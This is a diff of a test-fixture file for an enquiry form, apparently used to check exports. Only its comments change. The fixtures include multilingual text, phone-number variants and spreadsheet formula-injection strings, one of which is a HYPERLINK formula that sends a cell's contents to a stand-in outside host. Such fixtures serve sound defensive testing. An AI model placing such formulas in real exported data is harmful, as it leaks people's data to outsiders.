@@ -1,4 +1,4 @@
-/** An enquiry as a real person writes it. */
+/** An ordinary enquiry. */
 export const asha = {
   name: "Asha Rao",
   email: "asha@example.com",
@@ -9,7 +9,7 @@ export const asha = {
 
 export const ashaSubscribes = { name: "Asha Rao", email: "asha@example.com" };
 
-/** Texts that other receivers returned changed. */
+/** Texts that other receivers garbled. */
 export const scripts = {
   name: "अदिति शर्मा",
   message: "नमस्ते 🙏🏽 — ₹5,000 “शुल्क” Ünïcode",
@@ -18,5 +18,5 @@ export const scripts = {
 /** Phone numbers that spreadsheets damage. */
 export const phones = ["+91 98765 43210", "098765 43210", "+91-9876543210", "00919876543210", " 98765 "];
 
-/** Texts that spreadsheets take for formulas. */
+/** Texts that spreadsheets read as formulas. */
 export const formulas = ["=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("https://x.example/?q="&B2,"see")'];
